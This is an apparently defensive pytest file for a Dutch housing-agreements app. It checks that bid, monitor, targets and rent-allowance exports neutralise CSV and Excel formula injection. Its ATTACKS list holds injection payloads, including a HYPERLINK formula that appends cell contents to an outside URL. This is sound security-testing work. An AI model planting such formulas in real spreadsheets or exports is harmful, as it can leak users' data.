"""Every export keeps user text as text: a cell starting with =, +, -, @, a tab or a carriage
return never becomes a live formula (bid Excel, monitor Excel, targets CSV, huurtoeslag CSV)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from woonafspraken import formulas
from woonafspraken.agreements.models import Measurement
from woonafspraken.documents import monitor
from woonafspraken.governance import excel
from woonafspraken.governance.models import BidItem, BidSection
from woonafspraken.rules import batch

from .governance.conftest import woonpunt_bid

ATTACKS = [
    '=HYPERLINK("https://example.org/?"&A1;"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", ATTACKS)
def test_the_csv_helper_neutralises_every_trigger(text):
    assert formulas.for_csv(text) == "'" + text
    assert formulas.for_csv("Gewoon tekst") == "Gewoon tekst"
    assert formulas.for_csv(12) == 12


def test_the_bid_export_keeps_user_text_as_text_and_imports_it_back(maastricht, user):
    bid = woonpunt_bid(maastricht, user)
    BidSection.objects.filter(bid=bid, section="a").update(text=ATTACKS[0])
    BidItem.objects.filter(bid=bid, section="a").update(description="@SUM(A1)")
    data = excel.export_bid(bid)
    assert "<f>" not in _sheet_xml(data)
    wb = load_workbook(io.BytesIO(data))
    texts = {c.value: c for row in wb[excel.TEXT_SHEET].iter_rows() for c in row}
    items = {c.value: c for row in wb[excel.ITEM_SHEET].iter_rows() for c in row}
    for cell in (texts[ATTACKS[0]], items["@SUM(A1)"]):
        assert cell.data_type == "s" and cell.quotePrefix
    excel.import_bid(user("woonpunt"), bid, data)
    assert bid.sections.get(section="a").text == ATTACKS[0]
    assert bid.items.get(section="a").description == "@SUM(A1)"


def _measurement(cycle):
    return Measurement.objects.filter(target__agreement__theme__cycle=cycle).first()


def test_the_monitor_export_keeps_user_text_as_text(maastricht):
    m = _measurement(maastricht)
    Measurement.objects.filter(pk=m.pk).update(note="=1+1", source="-2+3")
    key = m.target.party_id if m.target.party_id else monitor.JOINT
    data = monitor.export_monitor(monitor.scope_for(maastricht, m.year, key))
    assert "<f>" not in _sheet_xml(data)
    ws = load_workbook(io.BytesIO(data))[monitor.SHEET]
    found = [c for row in ws.iter_rows() for c in row if c.value in ("=1+1", "-2+3")]
    assert len(found) == 2 and all(c.data_type == "s" and c.quotePrefix for c in found)


def test_the_targets_csv_neutralises_user_text(maastricht):
    m = _measurement(maastricht)
    Measurement.objects.filter(pk=m.pk).update(note="@SUM(A1)", source="+1+1")
    cells = {c for row in csv.reader(io.StringIO(monitor.targets_csv(maastricht))) for c in row}
    assert "'@SUM(A1)" in cells and "'+1+1" in cells
    assert not any(formulas.is_formula_like(c) for c in cells)


@pytest.mark.parametrize("text", ["=1+1", "-2+3", "@SUM(A1)"])
def test_the_huurtoeslag_csv_writes_nothing_for_formula_input(tmp_path, text):
    source = tmp_path / "in.csv"
    source.write_text(f"household_size,rent,income\n1,{text},20000\n", encoding="utf-8")
    out = tmp_path / "uit.csv"
    with pytest.raises(batch.CsvInputError):
        batch.process_csv(source, out, 2026)
    assert not out.exists()
